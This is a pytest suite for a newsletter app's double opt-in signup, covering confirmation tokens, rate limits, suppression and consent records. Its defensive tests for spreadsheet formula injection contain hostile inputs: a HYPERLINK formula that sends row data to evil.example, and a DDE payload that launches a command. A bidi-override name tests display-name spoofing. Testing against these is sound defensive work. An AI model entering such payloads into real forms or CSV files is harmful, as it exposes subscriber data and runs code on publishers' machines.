"""Double opt-in through the WSGI app in-process: subscribe, confirm, limits, tokens, consent."""

from __future__ import annotations

import csv
import logging
import re
import threading
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from werkzeug.test import Client

from pressroom.audience import events, subscribers, tokens
from pressroom.config import Config
from pressroom.delivery.providers.base import Outcome, Provider, Recipient, SendResult
from pressroom.delivery.transactional import Mailer
from pressroom.errors import PreflightError
from pressroom.web import signup
from pressroom.web.app import make_app
from tests.web_helpers import html_of, link, mails, signup_publication, text_of

SECRET = b"signup-test-secret-0123456789abcdef"
T0 = datetime(2026, 11, 25, 9, 30, tzinfo=UTC)
HEADER = "email,name,lists,tags,status,subscribed_at\n"
EXISTING = HEADER + (
    "ada@example.com,Ada,weekly,patron,active,2026-01-01\n"
    "pat@example.com,Pat,weekly,,pending,\n"
    "uma@example.com,Uma,weekly,,unsubscribed,2025-01-01\n"
    "bo@example.com,Bo,weekly,,bounced,2025-01-01\n"
)


class Clock:
    def __init__(self) -> None:
        self.now = T0

    def __call__(self) -> datetime:
        return self.now


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def pub(tmp_path: Path) -> Config:
    return signup_publication(tmp_path / "pub", subscribers_csv=EXISTING)


@pytest.fixture
def client(pub: Config, clock: Clock) -> Client:
    return Client(make_app(pub, secret=SECRET, clock=clock))


def rows(pub: Config) -> dict[str, dict[str, str]]:
    with (pub.subscribers.path / "subscribers.csv").open(newline="", encoding="utf-8") as f:
        return {r["email"]: r for r in csv.DictReader(f)}


def snapshot(pub: Config) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(pub.subscribers.path.iterdir())}


def settle(client: Client) -> None:
    """Wait until the signups posted so far are handled (limits, mail) off the request."""
    client.application.site.extras["signup"].wait()  # type: ignore[attr-defined]


def subscribe(client: Client, email: str, *lists: str, ip: str = "198.51.100.7", **extra: str):  # type: ignore[no-untyped-def]
    data: dict[str, object] = {
        "email": email,
        "name": "New Reader",
        "list": list(lists or ["weekly"]),
    }
    data.update(extra)
    response = client.post("/subscribe", data=data, environ_base={"REMOTE_ADDR": ip})
    settle(client)
    return response


# --- the form --------------------------------------------------------------------------------


def test_the_form_asks_for_email_name_and_lists_with_the_digest_list_preselected(
    client: Client,
) -> None:
    r = client.get("/subscribe")
    assert r.status_code == 200
    html = r.get_data(as_text=True)
    assert '<label for="email">' in html and 'id="email" type="email"' in html
    assert '<label for="name">' in html
    assert re.search(r'value="weekly" checked', html)
    assert re.search(r'value="breaking">', html)  # offered, not chosen
    assert "The week&#39;s stories" in html or "The week's stories" in html
    assert 'name="website"' in html and 'tabindex="-1"' in html  # the honeypot
    assert "<script" not in html


def test_only_subscribe_may_be_framed_and_only_by_the_publication(client: Client) -> None:
    r = client.get("/subscribe")
    assert "frame-ancestors https://theduran.example" in r.headers["Content-Security-Policy"]
    assert "X-Frame-Options" not in r.headers
    other = client.get("/confirm?t=x")
    assert "frame-ancestors 'none'" in other.headers["Content-Security-Policy"]
    assert other.headers["X-Frame-Options"] == "DENY"


def test_a_signup_sends_one_confirmation_and_writes_nothing(pub: Config, client: Client) -> None:
    before = snapshot(pub)
    r = subscribe(client, "New@Example.org", "weekly", "breaking")
    assert r.status_code == 200
    assert "Check your inbox" in r.get_data(as_text=True)
    assert snapshot(pub) == before  # nothing written before confirmation
    (msg,) = mails(pub)
    assert msg["To"] == "New Reader <New@example.org>"
    assert msg["From"] == "The Duran <news@theduran.example>"
    assert msg["Subject"] == "Confirm your subscription to The Duran"
    assert msg["Auto-Submitted"] == "auto-generated"
    assert "List-Unsubscribe" not in msg
    text, html = text_of(msg), html_of(msg)
    assert text.index("The Duran weekly") < text.index("Breaking news")  # the form's order
    assert "1 Example Street" in text and "1 Example Street" in html
    token = link(msg, "confirm")
    assert f"https://theduran.example/confirm?t={token}" in html
    wanted = tokens.ReaderTokens(SECRET, lambda: T0).verify_confirm(token)
    assert wanted.email == "New@example.org"
    assert wanted.lists == {"weekly", "breaking"}
    assert wanted.name == "New Reader"


def test_a_name_from_the_form_goes_through_the_text_policy(pub: Config, client: Client) -> None:
    # the name is the To: display name and the greeting: an override (U+202E) turned the
    # address beside it around, an open isolate whatever followed the name
    subscribe(client, "rlo@example.org", name="Eve \u202egro.elpmaxe\x07 \u2067Lev" + "x" * 200)
    (msg,) = mails(pub)
    assert "\u202e" not in str(msg["To"]) and "\x07" not in str(msg["To"])
    name = msg["To"].addresses[0].display_name
    assert name.startswith("Eve gro.elpmaxe \u2067Lev") and name.endswith("\u2069")
    # cut at MAX_NAME, and the isolate the cut left open closed again (spaces aside: a long
    # display name comes back folded)
    cut = ("Eve gro.elpmaxe \u2067Lev" + "x" * 200)[:100] + "\u2069"
    assert name.replace(" ", "") == cut.replace(" ", "")


def test_the_confirmation_mail_passes_the_preflight_rules_that_apply(
    pub: Config, client: Client
) -> None:
    subscribe(client, "new@example.org")
    (msg,) = mails(pub)
    # the real message, not a sample: subject, parts, links, postal address
    signup.check_email(pub, "sent", str(msg["Subject"]), html_of(msg), text_of(msg), bulk=False)
    # the same check refuses a mail without the postal address, or with a relative link
    with pytest.raises(PreflightError, match="no-postal-address"):
        signup.check_email(pub, "x", "Subject", "<p>hi</p>", "hi", bulk=False)
    address = "The Duran, 1 Example Street, London EC1A 1AA"
    with pytest.raises(PreflightError, match="relative-url"):
        html = f'<p>{address} <a href="/confirm?t=x">go</a></p>'
        signup.check_email(pub, "x", "Subject", html, address, bulk=False)


@pytest.mark.parametrize(
    ("email", "mailed"),
    [
        ("fresh@example.org", True),  # new
        ("ada@example.com", True),  # already active: a confirm merges lists, harmless
        ("pat@example.com", True),  # pending
        ("uma@example.com", True),  # unsubscribed: may come back through confirmation
        ("bo@example.com", False),  # bounced: never re-added by a form
    ],
)
def test_every_address_gets_the_same_answer(
    pub: Config, client: Client, email: str, mailed: bool
) -> None:
    r = subscribe(client, email)
    reference = subscribe(client, "someone-else@example.net", ip="192.0.2.1")
    assert r.status_code == reference.status_code == 200
    assert r.get_data(as_text=True).replace(email, "X") == reference.get_data(as_text=True).replace(
        "someone-else@example.net", "X"
    )
    got = [m["To"].addresses[0].addr_spec.lower() for m in mails(pub)]
    assert (email in got) is mailed


def test_suppressed_complained_address_gets_no_mail(pub: Config, client: Client) -> None:
    subscribers.suppress(pub, "cc@example.com", reason="complained", when=T0)
    r = subscribe(client, "cc@example.com")
    assert "Check your inbox" in r.get_data(as_text=True)
    assert mails(pub) == []


def test_the_honeypot_gets_the_same_answer_and_no_mail(
    pub: Config, client: Client, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING, logger="pressroom.web"):
        r = subscribe(client, "bot@example.org", website="http://spam.example")
    assert "Check your inbox" in r.get_data(as_text=True)
    assert mails(pub) == []
    assert "honeypot" in caplog.text
    assert "bot@example.org" not in caplog.text  # the log masks addresses


@pytest.mark.parametrize(
    ("data", "error"),
    [
        ({"email": "not-an-address", "list": "weekly"}, "Enter an email address like"),
        ({"email": "", "list": "weekly"}, "Enter your email address"),
        ({"email": "ok@example.org"}, "Choose at least one list"),
        ({"email": "ok@example.org", "list": "unknown"}, "Choose at least one list"),
    ],
)
def test_bad_input_shows_the_form_again_with_an_error(
    pub: Config, client: Client, data: dict[str, str], error: str
) -> None:
    r = client.post("/subscribe", data=data)
    assert r.status_code == 400
    html = r.get_data(as_text=True)
    assert error in html and 'role="alert"' in html
    assert mails(pub) == []


def test_a_plain_embedded_form_works(pub: Config, client: Client) -> None:
    snippet = signup.embed_snippet(pub)
    assert 'action="https://theduran.example/subscribe"' in snippet
    assert 'name="website"' in snippet
    # what that form posts, from the publisher's page (another origin)
    r = client.post(
        "/subscribe",
        data={"email": "embed@example.org", "list": "weekly", "website": ""},
        headers={"Origin": "https://theduran.example"},
    )
    settle(client)
    assert r.status_code == 200
    assert len(mails(pub)) == 1


# --- limits ------------------------------------------------------------------------------------


def test_one_mail_per_address_per_six_hours(
    pub: Config, client: Client, clock: Clock, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING, logger="pressroom.web"):
        for ip in ("198.51.100.1", "198.51.100.2"):
            assert "Check your inbox" in subscribe(client, "Rep@example.org", ip=ip).get_data(
                as_text=True
            )
        subscribe(client, "rep@EXAMPLE.org", ip="198.51.100.3")  # the same address
    assert len(mails(pub)) == 1
    assert "mails per address" in caplog.text
    clock.now = T0 + timedelta(hours=6, seconds=1)
    subscribe(client, "rep@example.org")
    assert len(mails(pub)) == 2


def test_ten_signups_per_client_address_per_hour(
    pub: Config, client: Client, clock: Clock, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING, logger="pressroom.web"):
        answers = {
            subscribe(client, f"r{i}@example.org", ip="203.0.113.5")
            .get_data(as_text=True)
            .replace(f"r{i}@example.org", "X")
            for i in range(12)
        }
    assert len(answers) == 1  # the limit answers the same neutral page
    assert len(mails(pub)) == 10
    assert "per client address" in caplog.text
    subscribe(client, "other-ip@example.org", ip="203.0.113.6")
    assert len(mails(pub)) == 11
    clock.now = T0 + timedelta(hours=1, seconds=1)
    subscribe(client, "later@example.org", ip="203.0.113.5")
    assert len(mails(pub)) == 12


def test_subaddresses_of_one_inbox_share_its_limit(
    pub: Config, client: Client, caplog: pytest.LogCaptureFixture
) -> None:
    # ada+1@, ada+2@… all land in ada@'s inbox: without this, one inbox (and the
    # publisher's sending reputation) could be flooded with confirmation mails
    with caplog.at_level(logging.WARNING, logger="pressroom.web"):
        for i, email in enumerate(
            ["victim@example.org", "victim+1@example.org", "Victim+news@Example.org"]
        ):
            subscribe(client, email, ip=f"198.51.100.{20 + i}")
        for i, email in enumerate(
            ["vic.tim@gmail.com", "victim+x@googlemail.com", "v.ictim@gmail.com"]
        ):
            subscribe(client, email, ip=f"198.51.100.{30 + i}")
    assert [m["To"].addresses[0].addr_spec for m in mails(pub)] == [
        "victim@example.org",
        "vic.tim@gmail.com",
    ]
    assert caplog.text.count("mails per address") == 4


def test_the_client_limit_counts_an_ipv6_network_not_each_address(
    pub: Config, client: Client
) -> None:
    # one home or server has a whole /64 and can use a new address for every request
    for i in range(12):
        subscribe(client, f"six{i}@example.org", ip=f"2001:db8:1:2::{i + 1:x}")
    assert len(mails(pub)) == 10
    subscribe(client, "other-net@example.org", ip="2001:db8:1:3::1")
    assert len(mails(pub)) == 11


def test_limits_are_configurable_and_the_state_holds_no_address(tmp_path: Path) -> None:
    pub = signup_publication(
        tmp_path / "p", extra="signup:\n  per_address: 2\n  address_window: 1h\n  per_ip: 0\n"
    )
    client = Client(make_app(pub, secret=SECRET, clock=lambda: T0))
    for _ in range(3):
        subscribe(client, "twice@example.org")
    assert len(mails(pub)) == 2
    for i in range(15):  # per_ip 0: no limit per client address
        subscribe(client, f"n{i}@example.org")
    assert len(mails(pub)) == 17
    db = (pub.state / "signups.db").read_bytes()
    assert b"twice" not in db and b"198.51.100.7" not in db


# --- confirm ------------------------------------------------------------------------------------


def confirm_token(pub: Config, client: Client, email: str, *lists: str) -> str:
    subscribe(client, email, *lists, ip=f"192.0.2.{len(mails(pub)) + 10}")
    return link(mails(pub)[-1], "confirm")


def test_get_confirm_shows_one_button_and_changes_nothing(pub: Config, client: Client) -> None:
    token = confirm_token(pub, client, "new@example.org", "weekly", "breaking")
    before = snapshot(pub)
    r = client.get(f"/confirm?t={token}")
    assert r.status_code == 200
    html = r.get_data(as_text=True)
    assert html.count("<button") == 1 and ">Confirm</button>" in html
    assert "new@example.org" in html and "Breaking news" in html
    assert client.head(f"/confirm?t={token}").status_code == 200
    assert snapshot(pub) == before


def test_post_confirm_adds_the_reader_with_consent_and_twice_is_harmless(
    pub: Config, client: Client, clock: Clock
) -> None:
    token = confirm_token(pub, client, "New@example.org", "weekly", "breaking")
    clock.now = T0 + timedelta(hours=2)
    r = client.post("/confirm", data={"t": token})
    assert r.status_code == 200
    assert "You are subscribed" in r.get_data(as_text=True)
    row = rows(pub)["New@example.org"]
    assert row["status"] == "active"
    assert row["lists"] == "breaking;weekly"
    assert row["name"] == "New Reader"
    assert row["subscribed_at"] == "2026-11-25T11:30:00+00:00"
    assert row["consent_at"] == "2026-11-25T11:30:00+00:00"
    assert row["consent_source"] == "web-form"
    assert rows(pub)["ada@example.com"]["tags"] == "patron"  # others untouched
    before = snapshot(pub)
    clock.now = T0 + timedelta(hours=3)
    assert client.post(f"/confirm?t={token}").status_code == 200
    assert snapshot(pub) == before  # byte for byte
    assert [s.email for s in subscribers.iter_subscribers(pub, list_="breaking")] == [
        "New@example.org"
    ]


def test_confirm_merges_lists_of_an_active_reader(pub: Config, client: Client) -> None:
    token = confirm_token(pub, client, "ada@example.com", "breaking")
    client.post("/confirm", data={"t": token})
    row = rows(pub)["ada@example.com"]
    assert row["lists"] == "breaking;weekly"
    assert row["status"] == "active" and row["subscribed_at"] == "2026-01-01"
    assert row["consent_source"] == "web-form"


def test_an_unsubscribed_reader_comes_back_only_by_confirming(pub: Config, client: Client) -> None:
    subscribers.suppress(pub, "gone@example.org", reason="unsubscribed", when=T0)
    token = confirm_token(pub, client, "gone@example.org")
    assert subscribers.is_suppressed(pub, "gone@example.org")  # the mail alone changes nothing
    client.post("/confirm", data={"t": token})
    assert not subscribers.is_suppressed(pub, "gone@example.org")
    assert "gone@example.org" in [s.email for s in subscribers.iter_subscribers(pub)]
    token = confirm_token(pub, client, "uma@example.com")
    client.post("/confirm", data={"t": token})
    assert rows(pub)["uma@example.com"]["status"] == "active"


def test_a_link_made_before_the_reader_unsubscribed_does_not_undo_the_unsubscribe(
    pub: Config, client: Client, clock: Clock
) -> None:
    # the reader confirms, leaves a day later; the old confirmation link is posted again
    # (the mail kept in the inbox, a browser restoring the tab): they stay unsubscribed
    token = confirm_token(pub, client, "gone@example.org")
    assert client.post("/confirm", data={"t": token}).status_code == 200
    clock.now = T0 + timedelta(days=1)
    subscribers.suppress(pub, "gone@example.org", reason="unsubscribed", when=clock.now)
    clock.now = T0 + timedelta(days=2)
    before = snapshot(pub)
    r = client.post("/confirm", data={"t": token})
    assert r.status_code == 400
    html = r.get_data(as_text=True)
    assert "This link has expired" in html and 'href="/subscribe"' in html
    assert snapshot(pub) == before
    assert subscribers.is_suppressed(pub, "gone@example.org")
    # a new signup's link brings them back
    clock.now = T0 + timedelta(days=3)
    fresh = confirm_token(pub, client, "gone@example.org")
    assert client.post("/confirm", data={"t": fresh}).status_code == 200
    assert not subscribers.is_suppressed(pub, "gone@example.org")


def test_a_bounced_or_complained_address_is_not_re_added(pub: Config, client: Client) -> None:
    token = confirm_token(pub, client, "later-bounced@example.org")
    subscribers.suppress(pub, "later-bounced@example.org", reason="bounced", when=T0)
    before = snapshot(pub)
    r = client.post("/confirm", data={"t": token})
    assert "Please write to us" in r.get_data(as_text=True)
    assert "editor@theduran.example" in r.get_data(as_text=True)
    assert snapshot(pub) == before
    forged_for_bo = tokens.ReaderTokens(SECRET, lambda: T0).confirm(
        "bo@example.com", "", ["weekly"]
    )
    r = client.post("/confirm", data={"t": forged_for_bo})
    assert "Please write to us" in r.get_data(as_text=True)
    assert rows(pub)["bo@example.com"]["status"] == "bounced"


@pytest.mark.parametrize("kind", [events.COMPLAINT, events.HARD_BOUNCE])
def test_a_complaint_after_an_unsubscribe_is_not_undone_by_the_form(
    pub: Config, client: Client, clock: Clock, kind: str
) -> None:
    # the reader leaves, then marks an older issue as spam (or the mailbox dies): the
    # suppressed file keeps its "unsubscribed" row, but the form must treat the address as
    # it would had the complaint come first
    subscribers.suppress(pub, "late@example.org", reason="unsubscribed", when=T0)
    token = tokens.ReaderTokens(SECRET, lambda: T0).confirm("late@example.org", "", ["weekly"])
    report = events.Event("mailgun", kind, "Late@example.org", T0 + timedelta(hours=1), id="e1")
    events.apply(pub, [report], now=T0 + timedelta(hours=1))
    clock.now = T0 + timedelta(hours=2)
    subscribe(client, "late@example.org")
    assert mails(pub) == []  # no confirmation mail to a complainer
    before = snapshot(pub)
    r = client.post("/confirm", data={"t": token})
    assert "Please write to us" in r.get_data(as_text=True)
    assert snapshot(pub) == before
    assert subscribers.is_suppressed(pub, "late@example.org")


def test_an_unsubscribe_after_an_old_bounce_the_editor_cleared_can_come_back(
    pub: Config, client: Client, clock: Clock
) -> None:
    # the bounce was recorded, the editor removed it; a later unsubscribe and re-signup work
    events.apply(
        pub, [events.Event("mailgun", events.HARD_BOUNCE, "back@example.org", T0, id="b1")], now=T0
    )
    pub.subscribers.suppressed.write_text("email,reason,date,list\n", encoding="utf-8")
    later = T0 + timedelta(days=30)
    subscribers.suppress(pub, "back@example.org", reason="unsubscribed", when=later)
    clock.now = later + timedelta(hours=1)
    token = tokens.ReaderTokens(SECRET, lambda: clock.now).confirm(
        "back@example.org", "", ["weekly"]
    )
    client.post("/confirm", data={"t": token})
    assert not subscribers.is_suppressed(pub, "back@example.org")


def test_an_expired_link_gets_a_clear_page_and_changes_nothing(
    pub: Config, client: Client, clock: Clock
) -> None:
    token = confirm_token(pub, client, "slow@example.org")
    clock.now = T0 + timedelta(days=7, seconds=1)
    before = snapshot(pub)
    for method in ("GET", "POST"):
        r = client.open(f"/confirm?t={token}", method=method)
        assert r.status_code == 400
        html = r.get_data(as_text=True)
        assert "This link has expired" in html
        assert 'href="/subscribe"' in html  # a way to start again
    assert snapshot(pub) == before
    clock.now = T0 + timedelta(days=6, hours=23)
    assert client.post(f"/confirm?t={token}").status_code == 200


@pytest.mark.parametrize("path", ["/confirm", "/preferences", "/unsubscribe"])
def test_tampered_and_forged_tokens_change_nothing(pub: Config, client: Client, path: str) -> None:
    good = tokens.ReaderTokens(SECRET, lambda: T0)
    other = tokens.ReaderTokens(b"another secret entirely", lambda: T0)
    candidates = {
        "/confirm": good.confirm("x@example.org", "", ["weekly"]),
        "/preferences": good.preferences.token("ada@example.com"),
        "/unsubscribe": good.unsubscribe.token("ada@example.com", "weekly"),
    }
    forged = {
        "/confirm": other.confirm("x@example.org", "", ["weekly"]),
        "/preferences": other.preferences.token("ada@example.com"),
        "/unsubscribe": other.unsubscribe.token("ada@example.com", "weekly"),
    }
    token = candidates[path]
    flipped = token[:-3] + ("AAA" if not token.endswith("AAA") else "BBB")
    before = snapshot(pub)
    for bad in (flipped, forged[path], token[: len(token) // 2], "", "x" * 5000):
        for method in ("GET", "POST"):
            r = client.open(path, method=method, query_string={"t": bad} if bad else None)
            assert r.status_code in (400, 414), (bad[:30], r.status_code)
    assert snapshot(pub) == before


@pytest.mark.parametrize(
    ("kind", "path"),
    [
        ("unsubscribe", "/confirm"),  # an unsubscribe token must not confirm
        ("preferences", "/confirm"),
        ("confirm", "/preferences"),  # a confirm token must not open preferences
        ("unsubscribe", "/preferences"),
        ("confirm", "/unsubscribe"),
        ("preferences", "/unsubscribe"),
    ],
)
def test_a_token_of_one_kind_never_works_as_another(
    pub: Config, client: Client, kind: str, path: str
) -> None:
    t = tokens.ReaderTokens(SECRET, lambda: T0)
    token = {
        "unsubscribe": t.unsubscribe.token("ada@example.com", "weekly"),
        "preferences": t.preferences.token("ada@example.com"),
        "confirm": t.confirm("ada@example.com", "Ada", ["weekly"]),
    }[kind]
    before = snapshot(pub)
    assert client.get(path, query_string={"t": token}).status_code == 400
    assert client.post(path, query_string={"t": token}).status_code == 400
    assert snapshot(pub) == before


def test_welcome_mail_when_asked_once_only(tmp_path: Path) -> None:
    pub = signup_publication(tmp_path / "w", extra="signup:\n  welcome: true\n")
    client = Client(make_app(pub, secret=SECRET, clock=lambda: T0))
    subscribe(client, "hello@example.org")
    token = link(mails(pub)[0], "confirm")
    client.post("/confirm", data={"t": token})
    client.post("/confirm", data={"t": token})
    _confirm_mail, welcome = mails(pub)  # exactly one welcome
    assert welcome["Subject"] == "Welcome to The Duran"
    t = tokens.ReaderTokens(SECRET, lambda: T0)
    assert t.preferences.verify(link(welcome, "preferences")) == "hello@example.org"
    assert t.unsubscribe.verify(link(welcome, "unsubscribe")) == ("hello@example.org", "weekly")


def test_signups_close_when_the_confirmation_mail_would_fail_preflight(tmp_path: Path) -> None:
    pub = signup_publication(tmp_path / "np")
    text = pub.path.read_text().replace(
        "  postal_address: The Duran, 1 Example Street, London EC1A 1AA\n", ""
    )
    pub.path.write_text(text)
    from pressroom import config

    pub = config.load(pub.path)
    app = make_app(pub, secret=SECRET, clock=lambda: T0)
    assert "postal_address" in (signup.closed_because(app.site) or "")
    client = Client(app)
    r = client.post("/subscribe", data={"email": "a@example.org", "list": "weekly"})
    assert r.status_code == 503
    assert "Signups are closed" in r.get_data(as_text=True)
    assert mails(pub) == []
    # the other pages still work: an unsubscribe link never breaks over the form
    unsub = tokens.Signer(SECRET).token("a@example.org", "weekly")
    assert client.post(f"/unsubscribe?t={unsub}").status_code == 200


def test_a_template_override_changes_the_page(pub: Config, clock: Clock) -> None:
    folder = pub.digest.templates / "web"
    folder.mkdir(parents=True)
    (folder / "check_inbox.html.j2").write_text(
        '{% extends "web/base.html.j2" %}{% set title = "Nearly there" %}'
        "{% block main %}<h1>Nearly there</h1>{% endblock %}"
    )
    client = Client(make_app(pub, secret=SECRET, clock=clock))
    r = subscribe(client, "o@example.org")
    assert "<h1>Nearly there</h1>" in r.get_data(as_text=True)


def test_serve_prints_the_embed_snippet(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    pub = signup_publication(tmp_path / "cli")
    env = {**os.environ, "PRESSROOM_SECRET": SECRET.decode()}
    proc = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "from pressroom.cli import main; main()",
            "--config",
            str(pub.path),
            "serve",
            "--port",
            "0",
        ],
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    try:
        assert proc.stderr is not None
        lines = [proc.stderr.readline() for _ in range(4)]
    finally:
        proc.terminate()
        proc.communicate(timeout=10)
    said = "".join(lines)
    assert "pressroom serve on http://127.0.0.1:" in lines[0]
    assert "paste:" in said
    assert '<form method="post" action="https://theduran.example/subscribe">' in said


def test_a_mail_that_cannot_go_out_is_logged_and_the_answer_stays_the_same(
    pub: Config, client: Client, caplog: pytest.LogCaptureFixture
) -> None:
    pub.outbox.mkdir(parents=True)
    (pub.outbox / "transactional").write_text("a file where the folder should be")
    with caplog.at_level(logging.ERROR, logger="pressroom.web"):
        r = subscribe(client, "unlucky@example.org")
    assert r.status_code == 200
    assert "Check your inbox" in r.get_data(as_text=True)
    assert "the confirmation mail was not sent (u***@example.org)" in caplog.text
    assert "unlucky@example.org" not in caplog.text


class HeldProvider(Provider):
    """A mail service stand-in that holds every message until the test lets it go."""

    name = "held"
    Settings = dict  # type: ignore[assignment]

    def setup(self) -> None:
        self.release = threading.Event()
        self.sent: list[str] = []

    def send(self, batch: Sequence[Recipient], *args: object) -> list[SendResult]:
        assert self.release.wait(30), "the test never released the provider"
        self.sent += [r.email for r in batch]
        return [SendResult(r.email, Outcome.SENT) for r in batch]


def test_the_answer_never_waits_for_the_mail(pub: Config, clock: Clock) -> None:
    provider = HeldProvider({})
    app = make_app(pub, secret=SECRET, clock=clock, mailer=Mailer(pub, provider=lambda: provider))
    client = Client(app)
    # the mail for a new address is held at the provider, yet both answers are already here
    for email in ("fresh@example.org", "bo@example.com"):
        r = client.post("/subscribe", data={"email": email, "list": "weekly"})
        assert "Check your inbox" in r.get_data(as_text=True)
    assert provider.sent == []
    provider.release.set()
    settle(client)
    assert provider.sent == ["fresh@example.org"]  # the bounced address got nothing


def test_finish_sends_what_is_still_queued(pub: Config, clock: Clock) -> None:
    provider = HeldProvider({})
    app = make_app(pub, secret=SECRET, clock=clock, mailer=Mailer(pub, provider=lambda: provider))
    Client(app).post("/subscribe", data={"email": "late@example.org", "list": "weekly"})
    threading.Timer(0.2, provider.release.set).start()
    signup.finish(app.site)  # what `pressroom serve` does when stopped
    assert provider.sent == ["late@example.org"]


def test_a_flood_of_signups_waits_in_a_bounded_queue(
    pub: Config, clock: Clock, caplog: pytest.LogCaptureFixture
) -> None:
    # the worker is stuck on the first mail; every further post waits for it. Without a
    # bound, a flood grows memory (and delays every real reader's mail) without end
    provider = HeldProvider({})
    app = make_app(pub, secret=SECRET, clock=clock, mailer=Mailer(pub, provider=lambda: provider))
    client = Client(app)
    state = app.site.extras["signup"]
    pages = set()
    with caplog.at_level(logging.WARNING, logger="pressroom.web"):
        for i in range(signup.MAX_QUEUED + 20):
            r = client.post(
                "/subscribe",
                data={"email": f"f{i}@example.org", "list": "weekly"},
                environ_base={"REMOTE_ADDR": f"198.18.{i // 250}.{i % 250}"},
            )
            pages.add((r.status_code, r.get_data(as_text=True).replace(f"f{i}@", "X@")))
    assert len(pages) == 1 and next(iter(pages))[0] == 200  # the same answer throughout
    assert state.jobs.qsize() <= signup.MAX_QUEUED
    assert "signups already waiting; this one dropped" in caplog.text
    provider.release.set()
    settle(client)
    assert len(provider.sent) == signup.MAX_QUEUED + 1  # the one held, and the queue


def test_confirm_posts_are_limited_per_client(tmp_path: Path) -> None:
    # POST /confirm reads and rewrites the subscriber files: a client replaying a link (or
    # many links) is held to serve.per_client a minute; a GET (mail scanners) reads no file
    PAGE_LIMIT = 5
    pub = signup_publication(tmp_path / "pub", f"serve:\n  per_client: {PAGE_LIMIT}\n")
    client = Client(make_app(pub, secret=SECRET, clock=lambda: T0))
    t = tokens.ReaderTokens(SECRET, lambda: T0).confirm("cy@example.org", "", ["weekly"])
    for _ in range(PAGE_LIMIT):
        assert client.post("/confirm", data={"t": t}).status_code == 200
    r = client.post("/confirm", data={"t": t})
    assert r.status_code == 429
    assert "cy@example.org" not in r.get_data(as_text=True)
    assert client.get(f"/confirm?t={t}").status_code == 200


def test_per_client_zero_turns_the_page_limit_off(tmp_path: Path) -> None:
    pub = signup_publication(tmp_path / "pub", "serve:\n  per_client: 0\n")
    client = Client(make_app(pub, secret=SECRET, clock=lambda: T0))
    t = tokens.ReaderTokens(SECRET, lambda: T0).confirm("cy@example.org", "", ["weekly"])
    assert all(client.post("/confirm", data={"t": t}).status_code == 200 for _ in range(150))


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?"&A2,"Ada")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        " \t=1+1",
        "= =@1",
    ],
)
def test_a_name_from_the_form_is_no_spreadsheet_formula(pub: Config, typed: str) -> None:
    # subscribers.csv is meant to be opened in a spreadsheet: a name written there as typed
    # ran as a formula on the publisher's machine (a link carrying the row next to it)
    client = Client(make_app(pub, secret=SECRET, clock=lambda: T0))
    subscribe(client, "eve@example.org", name=typed)
    token = link(mails(pub)[0], "confirm")
    assert client.post("/confirm", data={"t": token}).status_code == 200
    with (pub.subscribers.path / "subscribers.csv").open(newline="", encoding="utf-8") as f:
        [row] = [r for r in csv.DictReader(f) if r["email"] == "eve@example.org"]
    assert row["name"] and row["name"][0] not in "=+-@ \t"
    assert row["name"] in typed  # only the start went
    # and through /preferences
    prefs = tokens.Signer(SECRET).preferences.token("eve@example.org")
    client.post(f"/preferences?t={prefs}", data={"list": "weekly", "name": typed})
    with (pub.subscribers.path / "subscribers.csv").open(newline="", encoding="utf-8") as f:
        [row] = [r for r in csv.DictReader(f) if r["email"] == "eve@example.org"]
    assert row["name"] and row["name"][0] not in "=+-@ \t"


def test_a_link_made_before_the_name_rules_is_cleaned_at_confirmation(pub: Config) -> None:
    # confirmation links live for days: one made by an older version carries the name as
    # typed, and confirming wrote it into subscribers.csv as it was
    client = Client(make_app(pub, secret=SECRET, clock=lambda: T0))
    old = tokens.ReaderTokens(SECRET, lambda: T0).confirm(
        "eve@example.org", '=HYPERLINK("https://evil.example/?"&A2)\x07', ["weekly"]
    )
    assert client.post("/confirm", data={"t": old}).status_code == 200
    assert rows(pub)["eve@example.org"]["name"] == 'HYPERLINK("https://evil.example/?"&A2)'


def test_a_link_whose_address_the_checker_now_refuses_is_a_400_not_a_500(pub: Config) -> None:
    # a link made before the address checker changed (an email-validator upgrade, links live
    # for days) named an address that confirming could not normalise: a 500
    before = snapshot(pub)
    client = Client(make_app(pub, secret=SECRET, clock=lambda: T0))
    t = tokens.ReaderTokens(SECRET, lambda: T0).confirm("odd@@example.org", "", ["weekly"])
    assert client.get(f"/confirm?t={t}").status_code == 400  # no button that would fail
    r = client.post("/confirm", data={"t": t})
    assert r.status_code == 400
    assert "Something went wrong" not in r.get_data(as_text=True)
    assert snapshot(pub) == before
